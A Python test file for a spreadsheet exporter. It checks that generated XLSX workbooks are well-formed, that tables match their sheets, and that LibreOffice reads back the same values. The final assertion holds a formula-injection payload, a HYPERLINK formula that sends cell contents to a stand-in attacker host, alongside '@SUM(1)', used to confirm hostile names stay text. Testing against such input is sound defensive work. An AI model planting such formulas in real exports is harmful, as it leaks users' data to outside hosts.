"""The workbook opens cleanly: LibreOffice reads every sheet, and the parts Excel checks agree.

Excel offers to "repair" a workbook whose tables disagree with their sheets (a header cell that
is not the table's column name, overlapping or duplicate tables, a table name reused) or whose
XML is not well-formed; those are checked here on the saved file. LibreOffice, when installed,
converts every sheet to CSV and the values must be ours.
"""

from __future__ import annotations

import csv
import shutil
import xml.etree.ElementTree as ET
import zipfile

import openpyxl
import pytest
from export_fixtures import libreoffice_csv, make_analysis
from openpyxl.utils.cell import range_boundaries

from segmenter_app.core.export import write_workbook

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def test_every_part_is_well_formed_and_tables_match_their_sheets(tmp_path):
    analysis = make_analysis(80, hostile=True, lang="fr")
    analysis.measurements = [{"uplift": 0.02, "per_segment": [{"segment": "Champions", "conversion": 0.1}]}]
    out = tmp_path / "w.xlsx"
    stats = write_workbook(analysis, out, max_rows=30)
    with zipfile.ZipFile(out) as zf:
        assert zf.testzip() is None
        for name in zf.namelist():
            if name.endswith(".xml") or name.endswith(".rels"):
                ET.fromstring(zf.read(name))  # well-formed, or this raises
        tables = [ET.fromstring(zf.read(n)) for n in zf.namelist() if n.startswith("xl/tables/")]
        for name in zf.namelist():
            if name.startswith("xl/worksheets/sheet"):
                for pane in ET.fromstring(zf.read(name)).iter(f"{{{NS['m']}}}pane"):
                    # A frozen pane without a split is one of the things Excel "repairs".
                    assert pane.get("xSplit") or pane.get("ySplit"), name
    assert len(tables) == stats["tables"] > 10
    assert len({t.get("name").lower() for t in tables}) == len(tables)
    assert len({t.get("id") for t in tables}) == len(tables)

    wb = openpyxl.load_workbook(out)
    for ws in wb:
        spans = []
        for table in ws.tables.values():
            min_col, min_row, max_col, max_row = range_boundaries(table.ref)
            assert max_row <= 30
            header = [ws.cell(min_row, c).value for c in range(min_col, max_col + 1)]
            assert header == [col.name for col in table.tableColumns], (ws.title, table.name)
            assert len({h.lower() for h in header}) == len(header)
            assert all(isinstance(h, str) and h and "\n" not in h for h in header)
            for other in spans:  # tables of one sheet never overlap
                assert max_row < other[0] or min_row > other[1]
            spans.append((min_row, max_row))


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed here")
def test_libreoffice_reads_every_sheet_with_our_values(tmp_path):
    analysis = make_analysis(60, hostile=True)
    out = tmp_path / "w.xlsx"
    stats = write_workbook(analysis, out)
    produced = libreoffice_csv(out, tmp_path / "csv", formatted=False)
    assert produced == sorted(f"w-{name}.csv" for name in stats["sheets"])

    def read(name):
        with open(tmp_path / "csv" / f"w-{name}.csv", encoding="utf-8", newline="") as fh:
            return list(csv.reader(fh))

    everyone = read("All customers")
    assert len(everyone) == 1 + len(analysis.customers)
    wb = openpyxl.load_workbook(out)
    ours = [
        [("" if v is None else v) for v in row] for row in wb["All customers"].iter_rows(values_only=True)
    ]
    header = ours[0]
    assert everyone[0] == header
    for lo_row, our_row in zip(everyone[1:], ours[1:], strict=True):
        for title, lo_value, our_value in zip(header, lo_row, our_row, strict=False):
            if isinstance(our_value, bool):
                assert lo_value == str(our_value).upper(), title
            elif isinstance(our_value, (int, float)):
                assert float(lo_value.rstrip("%")) == pytest.approx(
                    our_value * (100 if lo_value.endswith("%") else 1)
                ), title
            elif hasattr(our_value, "year"):
                assert lo_value == our_value.date().isoformat(), title
            else:
                assert lo_value == our_value.replace("_x005F_x0041_", "_x0041_"), title
    # LibreOffice, too, keeps the hostile names as text.
    flat = {v for row in everyone for v in row}
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in flat and "@SUM(1)" in flat
